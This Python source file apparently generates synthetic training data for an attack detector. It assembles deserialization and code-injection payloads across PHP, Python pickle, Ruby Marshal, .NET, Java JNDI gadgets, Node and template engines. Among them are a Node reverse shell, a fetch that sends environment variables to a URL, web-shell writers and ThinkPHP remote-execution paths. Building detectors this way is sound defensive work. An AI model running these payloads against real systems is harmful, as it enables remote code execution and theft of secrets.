"""Serialized objects of many languages that run code where they are read, and calls put together."""

from __future__ import annotations

from base64 import b64encode
from random import Random

from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.parts import PARTS, draw
from securitai.train.corpora.kinds import BODY, COOKIE, FILE, HEADER, VALUE, AttackKind
from securitai.verdict import Category

_UCMD, _WCMD, _URL = PARTS.maker("ucmd0"), PARTS.maker("wcmd0"), PARTS.maker("url")
_VENDORS = (
    "Illuminate", "Symfony\\Component", "Monolog", "GuzzleHttp", "Doctrine", "Zend", "Laminas", "Drupal\\Core", "Magento\\Framework",
    "Yiisoft", "CakePHP", "CodeIgniter", "Slim", "Laravel", "Phalcon", "Swift", "PHPUnit", "Faker", "Mockery", "Dompdf", "Typo3", "React",
)  # fmt: skip
_PARTS = (
    "Broadcasting", "Cache", "Queue", "Log", "Handler", "Process", "Session", "Stream", "Mail", "Events", "Cookie", "Validation",
    "Pending", "Buffer", "Adapter", "Iterator", "Lazy", "Proxy", "File", "Dispatcher", "Closure", "Pipes", "Batch", "Result", "Generator",
    "Pool", "Tag", "Aware", "Route", "Invoker", "Callback", "Command", "Writer", "View", "Template", "Object", "Container", "Model",
)  # fmt: skip
_PROPS = (
    "events", "event", "handler", "callback", "_callback", "func", "methods", "queueResolver", "data", "file", "filename", "cmd", "command",
    "config", "formatters", "stream", "bufferSize", "processors", "_fn_close", "logger", "params", "value", "code", "hook", "output", "path",
    "adapter", "listeners", "app", "default", "items", "cookies", "process", "_dataReader", "customize", "getIterator", "closure", "resolver",
)  # fmt: skip
_SINKS = ("system", "passthru", "exec", "shell_exec", "assert", "call_user_func", "phpinfo", "file_put_contents", "unlink", "proc_open", "readfile", "popen", "eval")  # fmt: skip


def _one(rng: Random, items: tuple[str, ...]) -> str:
    return items[int(rng.random() * len(items))]


def _php_class(rng: Random) -> str:
    name = "".join([_one(rng, _PARTS) for _ in range(1 + int(rng.random() * 3))])
    if rng.random() < 0.3:
        return _one(rng, ("", "App_", "Zend_", "JDatabase", "WP_", "Typecho_", "Smarty_")) + name
    middle = "\\" + _one(rng, _PARTS) if rng.random() < 0.6 else ""
    return f"{_one(rng, _VENDORS)}{middle}\\{name}"


def _php_text(text: str) -> str:
    return f's:{len(text.encode("utf-8"))}:"{text}";'


def _php_leaf(rng: Random) -> str:
    roll = rng.random()
    if roll < 0.3:
        return _php_text(_one(rng, _SINKS))
    if roll < 0.6:
        return _php_text(_UCMD(rng))
    if roll < 0.7:
        return _php_text(f"<?php {_one(rng, _SINKS)}($_{_one(rng, ('GET', 'POST'))}[{draw(rng, 'abcx01', 1, 1)}]);?>")  # fmt: skip
    if roll < 0.8:
        return _php_text(f"/var/www/html/{draw(rng, 'abcdefghij', 2, 8)}.php")
    return f"i:{int(rng.random() * 99)};" if roll < 0.9 else "b:1;"


def _php_object(rng: Random, depth: int) -> str:
    name, fields = _php_class(rng), []
    for _ in range(1 + int(rng.random() * 2.5)):
        prop, roll = _one(rng, _PROPS), rng.random()
        if roll < 0.35:
            prop = f"\0*\0{prop}"
        elif roll < 0.5:
            prop = f"\0{name}\0{prop}"
        roll = rng.random()
        if depth and roll < 0.6:
            value = _php_object(rng, depth - 1)
        elif roll < 0.8:
            value = f"a:2:{{i:0;{_php_leaf(rng)}i:1;{_php_leaf(rng)}}}"
        else:
            value = _php_leaf(rng)
        fields.append(_php_text(prop) + value)
    plus = "+" if rng.random() < 0.06 else ""
    return f'O:{plus}{len(name)}:"{name}":{len(fields)}:{{{"".join(fields)}}}'


def php_chain(rng: Random) -> str:
    """A chain of PHP objects: names of frameworks' sort, private properties, a call at the end."""
    text, roll = _php_object(rng, int(rng.random() * 3)), rng.random()
    if roll < 0.15:
        text = f"a:2:{{i:7;{text}i:7;i:7;}}"
    elif roll < 0.22:
        text = f"{draw(rng, 'abcdefgh', 3, 8)}|{text}"
    elif roll < 0.28:
        text = f'{draw(rng, "abcdefgh", 0, 9)}";{_php_text(_one(rng, _PROPS))}{text}'
    elif roll < 0.33:
        text = f"x:{text};m:a:0:{{}}"
    roll = rng.random()
    if roll < 0.3:
        return text.replace("\0", "%00")
    if roll < 0.4:
        return text.replace("\0", "\\0").replace("s:", "S:", 1)
    if roll < 0.5:
        return text.replace("\0", "\\u0000")
    if roll < 0.6:
        return b64encode(text.replace("\0", "").encode()).decode()
    return text


_MODULES = (
    "posix\nsystem", "os\nsystem", "os\npopen", "builtins\neval", "builtins\nexec", "subprocess\nPopen", "subprocess\ncheck_output", "nt\nsystem",
    "__builtin__\neval", "subprocess\ncall", "commands\ngetoutput", "pty\nspawn", "importlib\nimport_module", "runpy\n_run_code", "webbrowser\nopen",
    "timeit\ntimeit", "builtins\ngetattr", "asyncio\nrun", "shutil\nrmtree", "numpy.testing._private.utils\nrunstring",
)  # fmt: skip


def pickled(rng: Random) -> str:
    """A pickle of any protocol that calls a function; as bytes, as written in source, in base64."""
    module, name = _one(rng, _MODULES).split("\n")
    text = _UCMD(rng).replace("\\", "/")
    if name in ("eval", "exec", "_run_code", "timeit", "runstring"):
        text = f"__import__('os').{_one(rng, ('system', 'popen'))}(\"{text}\")".replace("'", '"')
    size = chr(len(text) % 128)
    roll = rng.random()
    if roll < 0.2:
        body = f"(S'{text}'\ni{module}\n{name}\n."
    elif roll < 0.4:
        body = f"c{module}\n{name}\np0\n(V{text}\np1\ntp2\nRp3\n."
    elif roll < 0.6:
        body = f"\x80{chr(2 + int(rng.random() * 2))}c{module}\n{name}\nq\0X{size}\0\0\0{text}q\x01\x85q\x02Rq\x03."
    else:
        body = f"\x80{chr(4 + int(rng.random() * 2))}\x95{size}\0\0\0\0\0\0\0\x8c{chr(len(module))}{module}\x94\x8c{chr(len(name))}{name}\x94\x93\x94\x8c{size}{text}\x94\x85\x94R\x94."
    roll = rng.random()
    if roll < 0.35:
        return "".join([c if " " <= c <= "~" else f"\\x{ord(c):02x}" for c in body])
    if roll < 0.5:
        return repr(body.encode("latin-1"))
    return b64encode(body.encode("latin-1")).decode() if roll < 0.7 else body


_RUBY = (
    "Gem::Requirement", "Gem::Installer", "Gem::SpecFetcher", "Gem::Package::TarReader", "Net::WriteAdapter", "Net::BufferedIO", "ERB",
    "ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy", "ActiveModel::AttributeMethods::ClassMethods::CodeGenerator", "Gem::RequestSet",
    "Gem::Source::Git", "Gem::Resolver::GitSpecification", "Rack::Session::Abstract::SessionHash", "Sprockets::ERBProcessor", "UncaughtThrowError",
    "Gem::StubSpecification", "Gem::Source::SpecificFile", "Gem::DependencyList", "ActiveRecord::Associations::Association", "Rails::Generators",
)  # fmt: skip


def ruby(rng: Random) -> str:
    """A Ruby Marshal stream of gadget classes: as bytes, as written in source, signed in base64."""
    body = "\x04\b" + _one(rng, ("[\b", "[\x07", "{\x06", "", "U:", "I"))
    for _ in range(1 + int(rng.random() * 3)):
        name = _one(rng, _RUBY)
        ivar = _one(rng, ("@src", "@method", "@socket", "@requirements", "@deprecator", "@git_set", "@sets", "@instance", "@file_name", "@io"))  # fmt: skip
        text = _UCMD(rng).encode("ascii", "replace").decode()
        body += f'{_one(rng, ("o:", "c", "U:", "e:"))}{chr(len(name) + 5)}{name}\x06:{chr(len(ivar) + 5)}{ivar}I"{chr(len(text) % 120 + 5)}{text}\x06:\x06ET'
    roll = rng.random()
    if roll < 0.4:
        return "".join([c if " " <= c <= "~" else f"\\x{ord(c):02X}" for c in body])
    if roll < 0.6:
        return "".join([c if " " <= c <= "~" else f"\\u{ord(c):04x}" for c in body])
    if roll < 0.8:
        return body
    sealed = b64encode(body.encode("latin-1")).decode()
    return f"{sealed}--{draw(rng, '0123456789abcdef', 40, 40)}" if roll < 0.93 else f"Marshal.load({sealed})"  # fmt: skip


_DOTNET = (
    "Microsoft.PowerShell.Editor, Version=3.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35", "System.Security.Principal.WindowsIdentity",
    "System.Security.Claims.ClaimsPrincipal", "System.Windows.Data.ObjectDataProvider", "System.Collections.Generic.SortedSet`1[[System.String]]",
    "System.Data.DataSet, System.Data, Version=4.0.0.0", "System.Web.Security.RolePrincipal", "System.DelegateSerializationHolder",
    "Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties", "System.Workflow.ComponentModel.Serialization.ActivitySurrogateSelector",
    "System.Runtime.Remoting.ObjRef", "System.Configuration.Install.AssemblyInstaller", "System.Drawing.Design.ToolboxItemContainer",
)  # fmt: skip


def dotnet(rng: Random) -> str:
    """A .NET BinaryFormatter stream of a gadget: its readable parts, or base64 with the usual head."""
    head = f"\0\1\0\0\0\xff\xff\xff\xff\1\0\0\0\0\0\0\0\x0c{chr(2 + int(rng.random() * 99))}\0\0\0"
    name, text = _one(rng, _DOTNET), _WCMD(rng)
    mid = _one(rng, ("\x05\x01\0\0\0", "\x04\x01\0\0\0", "\x06\x03\0\0\0"))
    body = f"{head}{chr(len(name) % 255)}{name}{mid}\x0fForegroundBrush\1\2\0\0\0/c {text}\x0b"
    roll = rng.random()
    if (
        roll < 0.7
    ):  # the detector cuts long runs of base64 short: most are as short as it reads whole
        text = b64encode(body.encode("latin-1")).decode()
        return text[: 4 * (8 + int(rng.random() * 9))] if roll < 0.5 else text
    if roll < 0.8:
        return f"__VIEWSTATE=/wEy{b64encode(body[2:].encode('latin-1')).decode()}"
    return "".join([c if " " <= c <= "~" else f"\\x{ord(c):02x}" for c in body])


_G = Grammar(
    r"""
dns = System.Windows.Data.ObjectDataProvider¦System.Windows.ResourceDictionary¦System.Configuration.Install.AssemblyInstaller¦System.Diagnostics.Process¦System.Security.Principal.WindowsIdentity¦System.Web.Security.RolePrincipal¦System.Data.DataSet¦System.IO.FileInfo¦System.Workflow.ComponentModel.AppSettings¦System.Management.Automation.PSObject¦Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties¦System.Activities.Presentation.WorkflowDesigner¦System.Windows.Forms.BindingSource¦System.Collections.Generic.Dictionary`2[[System.String],[System.Diagnostics.Process]]¦System.IdentityModel.Tokens.SessionSecurityToken¦Microsoft.Exchange.Management.SystemManager.WinForms.ExchangeSettingsProvider
asm = mscorlib¦System¦PresentationFramework¦System.Web¦System.Data, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089¦PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35¦System.Private.CoreLib
tk = $type¦__type¦@odata.type¦$type¦$type¦_type¦!type
jprop = url¦dataSourceName¦jndiName¦connectionString¦userOverridesAsString¦metricRegistry¦healthCheckRegistry¦configuration¦driverLocation¦resourceName¦beanFactory¦properties¦logWriter¦jdbcUrl¦autoCommit
jp1 = com.sun¦org.apache¦ch.qos.logback¦com.mchange.v2¦org.springframework¦com.zaxxer¦oracle.jms¦br.com.anteros¦com.caucho¦org.hibernate¦javax.management¦java.lang¦com.alibaba.druid¦org.jboss
jp2 = rowset¦commons.dbcp2¦core.db¦c3p0¦aop.config¦hikari¦ibatis.datasource¦xbean.naming¦shiro.realm¦cocoon¦connector.support¦jndi.support¦jelly.impl¦openjpa.ee¦commons.configuration
jp3 = JdbcRowSetImpl¦JndiRefForwardingDataSource¦JNDIConnectionSource¦DriverManagerConnectionSource¦HikariConfig¦JndiRealm¦WrapperConnectionPoolDataSource¦JndiObjectFactory¦PropertyPathFactoryBean¦JndiConfiguration¦JmsRealm¦BasicDataSource¦MBeanServer¦SimpleJndiBeanFactory¦JndiDataSourceFactory¦Embedded
jcls:
  3×‹jp1›.‹jp2›.‹jp3›
  com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl
  org.springframework.context.support.‹ClassPathXmlApplicationContext¦FileSystemXmlApplicationContext›
  javax.script.ScriptEngineManager
  java.net.‹URLClassLoader¦Inet4Address¦InetSocketAddress›
  java.lang.‹ProcessBuilder¦Runtime¦AutoCloseable›
  ‹L¦[›com.sun.rowset.JdbcRowSetImpl‹;¦[{›
  \u0063om.sun.rowset.JdbcRowSetImpl
jnd:
  3×‹ldap¦rmi¦ldaps¦iiop¦dns›://‹hostport›/‹az›
  jdbc:h2:mem:‹az›;INIT=RUNSCRIPT FROM '‹url›'
  jdbc:h2:mem:‹az›;TRACE_LEVEL_SYSTEM_OUT=3;INIT=CREATE ALIAS X AS 'void x() throws Exception{Runtime.getRuntime().exec(\"‹ucmd0›\");}'\;CALL X()
  jdbc:mysql://‹hostport›/‹az›?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor
  jdbc:postgresql://‹host›/‹az›?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=‹url›
  jdbc:derby:‹az›;create=true;slaveHost=‹host›
  ‹url›/‹az›.xml
typed:
  3×{"‹tk›":"‹dns›, ‹asm›","MethodName":"‹Start¦Load¦Parse›","ObjectInstance":{"$type":"System.Diagnostics.Process, System","StartInfo":{"FileName":"‹cmd¦cmd.exe¦powershell›","Arguments":"/c ‹wcmd›"}}}
  {"‹az›":{"‹tk›":"‹dns›, ‹asm›","‹az›":"‹rnd›"}}
  {"‹tk›":"‹dns›, ‹asm›","‹Source¦Path¦Location¦XamlText›":"‹url›"}
  {"‹tk›":"System.Security.Principal.WindowsIdentity, mscorlib","System.Security.ClaimsIdentity.bootstrapContext":"AAEAAAD/////AQAAAAAAAAAMAgAAA‹b64›"}
  {"‹tk›":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodParameters":{"$values":["‹cmd›","‹rnd›"]},"‹az›":‹n›}
  5×{"@type":"‹jcls›","‹jprop›":"‹jnd›"‹?auto›}
  2×["‹jcls›",{"‹jprop›":"‹jnd›"}]
  {"‹az›":{"@type":"java.lang.Class","val":"‹jcls›"},"‹az›":{"@type":"‹jcls›","‹jprop›":"‹jnd›"}}
  {"@class":"‹jcls›","‹jprop›":"‹jnd›"}
  {"class":"‹jcls›","‹jprop›":"‹jnd›"}
  {"‹az›":["‹jcls›",{"‹jprop›":"‹jnd›"}]}
  {"@type":"‹jcls›","_bytecodes":["yv66vgAAA‹b64›"],"_name":"‹c›","_tfactory":{}}
  {"@\u0074ype":"‹jcls›","‹jprop›":"‹jnd›"}
  {‹nl›/*‹rnd›*/"@type":"‹jcls›",‹nl›"‹jprop›":"‹jnd›"}
  {'@type':'‹jcls›','‹jprop›':'‹jnd›'}
  !!‹jcls› {‹jprop›: "‹jnd›"}
  !!‹jcls› ["‹jnd›"]
  !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["‹url›"]]]]
  ‹az›: !!‹jcls›‹nl›  ‹jprop›: ‹jnd›
  !<tag:yaml.org,2002:‹jcls›> {‹jprop›: '‹jnd›'}
  <‹jcls2›><‹jprop›>‹jnd›</‹jprop›></‹jcls2›>
  <‹java¦map¦sorted-set›><‹entry¦object¦dynamic-proxy› class="‹jcls2›"><‹target¦void¦command› class="java.lang.ProcessBuilder"><string>‹ucmd0›</string></target></entry></map>
  <java version="1.8.0" class="java.beans.XMLDecoder"><object class="‹java.lang.ProcessBuilder¦java.lang.Runtime¦java.io.PrintWriter›"><void method="‹start¦exec¦println›"><string>‹ucmd0›</string></void></object></java>
  <‹az› class="‹jcls2›"><‹jprop›>‹jnd›</‹jprop›></‹az›>
auto = ,"autoCommit":true
jcls2 = javax.imageio.ImageIO$ContainsFilter¦com.sun.rowset.JdbcRowSetImpl¦java.beans.EventHandler¦javax.naming.ldap.Rdn_-RdnEntry¦com.sun.jndi.rmi.registry.BindingEnumeration¦sun.swing.SwingLazyValue¦java.util.ServiceLoader¦org.apache.commons.beanutils.BeanComparator¦javax.swing.UIDefaults
nodebody:
  require('child_process').‹exec¦execSync¦spawn›('‹ucmd0›')
  require("child_process").exec("‹ucmd0›",function(e,o,r){console.log(o)})
  global.process.mainModule.require('‹fs¦child_process¦net›')
  var net=require('net'),sh=require('child_process').spawn('/bin/sh',[]);var c=net.connect(‹port›,'‹host›')
  process.exit(‹d1›)
  fetch('‹url›?'+JSON.stringify(process.env))
  import('fs').then(f=>f.readFileSync('‹u_file›'))
  eval(Buffer.from('‹b64›','base64')+'')
  (()=>{throw new Error(process.env.‹AZ6›)})()
nodes:
  2×{"‹az›":"_$$ND_FUNC$$_function‹?sp›(){‹nodebody›}()"}
  {"‹az›":"‹word›","‹az›":"_$$ND_FUNC$$_function(){return ‹nodebody›}()"}
  _$$ND_FUNC$$_‹async ¦›‹()=>{¦function (){¦function x(){›‹nodebody›}()
  {"‹az›":{"__js_function":"function(){‹nodebody›}()"}}
  {"__js_function":"function ‹az›(){‹nodebody›}"}
  {"‹az›":{"_type":"Function","source":"() => {‹nodebody›}"}}
  (function(){‹nodebody›;return {}})()
  {‹az›: !!js/function "function(){‹nodebody›}"}
  !!js/function 'function(){ ‹nodebody› }'
  "toString": !!js/function "function(){‹nodebody›}"
  {"‹az›":"$B‹hexrun›","get":"$‹d1›:constructor:constructor","_prefix":"‹nodebody›;"}
  --- !ruby/object:‹Gem::Installer¦Gem::Requirement¦Gem::Package::TarReader¦Net::WriteAdapter¦OpenStruct¦Rack::Response¦ERB›‹nl›‹i: x¦table:›‹nl›  ‹az›: ‹ucmd0›
  - !ruby/‹class¦hash¦object:Class¦struct:Gem¦sym› 'Gem::‹SpecFetcher¦Installer¦Source›'‹nl›- !ruby/object:Kernel {‹az›: "‹ucmd0›"}
  {"^‹o¦u¦c¦O›":"‹Gem::Requirement¦Net::BufferedIO¦Gem::Installer¦ERB¦Gem::SpecFetcher›","‹az›":"‹ucmd0›"}
  {"py/reduce":[{"py/function":"‹os.system¦subprocess.call¦builtins.exec›"},{"py/tuple":["‹ucmd0›"]}]}
  {"‹az›":{"py/object":"‹os.system¦subprocess.Popen¦builtins.eval›","py/newargs":["‹ucmd0›"]}}
  !!python/object/‹apply¦new›:‹os.system¦subprocess.call¦builtins.exec¦posix.system¦eval› ["‹ucmd0›"]
  !!python/name:‹os.system¦builtins.eval¦subprocess.Popen› [‹ucmd0›]
  !!perl/code "sub { system('‹ucmd0›') }"
  __import__("pickle").loads(bytes.fromhex("80‹hexrun›"))
  {"__reduce__":["os.system",["‹ucmd0›"]],"__class__":"‹Az›"}
  ‹az›; YAML.unsafe_load("--- !ruby/object:Gem::Installer {i: ‹az›}")
sy = system¦passthru¦shell_exec¦exec¦assert¦popen
cut:
  'sy'.'stem'
  'pas'.'sthru'
  'as'.'sert'
  "s"."ys"."tem"
  'ex'.'ec'
  strrev('metsys')
  str_rot13('flfgrz')
  base64_decode('c3lzdGVt')
  implode('',['sy','st','em'])
  chr(115).'ystem'
  hex2bin('73797374656d')
  '‹sy›'
mark:
  print(md5(‹n›))
  var_dump(md5('‹rnd›'))
  print_r(sha1('‹rnd›'))
  die(crc32(‹n›))
  phpinfo()
  echo(‹n›*‹n›)
  printf('%d',‹n›*‹n›)
  system('‹ucmd0›')
  eval($_‹POST¦GET¦REQUEST›[‹c›])
  file_put_contents('‹rnd›.php','<?=`$_GET[0]`')
calls:
  2×call_user_func_array(‹cut›,array('‹ucmd0›'))
  call_user_func(‹cut›,'‹ucmd0›')
  call_user_func_array(‹cut›,['‹ucmd0›'])
  (‹cut›)('‹ucmd0›')
  $‹v=az›=‹cut›;$‹$v›('‹ucmd0›');
  2×${@‹mark›}
  {${‹mark›}}
  ‹az›'.@‹mark›.'
  ‹az›".${@‹mark›}."
  ‹pre›");‹mark›;//
  ‹pre›']=1;‹mark›;//
  {${@‹mark›}}{/if}
  preg_replace('/‹az›/‹e¦ie¦me›','‹mark›','‹az›')
  preg_filter("/./e","‹mark›","‹c›")
  create_function('$‹az›','}‹mark›;/*')
  $‹v=az›=create_function('','‹mark›;');$‹$v›();
  assert(‹"'¦'›‹mark›‹'"¦'›)
  array_‹map¦filter¦walk›(‹cut›,['‹ucmd0›'])
  register_shutdown_function(‹cut›,'‹ucmd0›')
  iterator_apply(new ArrayIterator([1]),‹cut›,['‹ucmd0›'])
  ‹index¦home¦admin¦api›/\think\‹app¦App¦Container¦Request¦Lang¦view\driver\Php¦template\driver\file›/‹invokefunction¦invokeFunction¦input¦display¦write¦load›&function=call_user_func_array&vars[0]=‹sy›&vars[1][]=‹ucmd0›
  \think\‹app¦Container›/invokefunction&function=‹sy›&vars[0]=‹ucmd0›
  filter[]=‹sy›&method=__construct&get[]=‹ucmd0›&server[]=‹n›
  @ASTTest(value={assert java.lang.Runtime.getRuntime().exec("‹ucmd0›")}) def ‹az›
  @groovy.transform.ASTTest(value={ "‹ucmd0›".execute() }) class ‹Az› {}
  @Grab('‹az›:‹az›:‹d1›')@GrabResolver(name='‹az›',root='‹url›') import ‹Az›
  "‹ucmd0›".execute().text
  ["‹sh¦bash›","-c","‹ucmd0›"].execute().text
  this.class.classLoader.parseClass("class ‹Az›{static{Runtime.runtime.exec('‹ucmd0›')}}")
  <#assign ‹v=az›="freemarker.template.utility.‹Execute¦ObjectConstructor¦JythonRuntime›"?new()>${‹$v›("‹ucmd0›")}
  #set($‹v=az›=$‹az›.class.forName("java.lang.Runtime"))$‹$v›.getRuntime().exec("‹ucmd0›")
  <INCLUDE>‹u_file›</INCLUDE><‹ARG¦EXEC›>‹ucmd0›</‹EXEC¦ARG›>
  {pboot:if(‹cut›('‹ucmd0›'))}{/pboot:if}
  {if phpversion()}{‹mark›}{/if}
  {Smarty_Internal_Write_File::writeFile('‹rnd›.php',"<?php ‹mark›;",self::clearConfig())}
  {literal}{/literal}{php}‹mark›;{/php}
  <?xml version="1.0"?><methodCall><methodName>‹cut›</methodName><params><param><value>‹ucmd0›</value></param></params></methodCall>
""",
    PARTS,
)
_C = Category.CODE_INJECTION
_SOME = (VALUE, COOKIE, HEADER)
KINDS = (
    AttackKind("objects.php_chain", _C, php_chain, 0.4, (*_SOME, BODY)),
    AttackKind("objects.pickle", _C, pickled, 0.5, (VALUE, COOKIE, FILE)),
    AttackKind("objects.ruby", _C, ruby, 0.4, (VALUE, COOKIE)),
    AttackKind("objects.dotnet", _C, dotnet, 0.3, (VALUE, COOKIE, BODY)),
    AttackKind("objects.typed", _C, _G.maker("typed"), 1.0, (VALUE, BODY)),
    AttackKind("objects.script", _C, _G.maker("nodes"), 0.7, (VALUE, COOKIE)),
    AttackKind("objects.calls", _C, _G.maker("calls"), 0.8, _SOME),
)
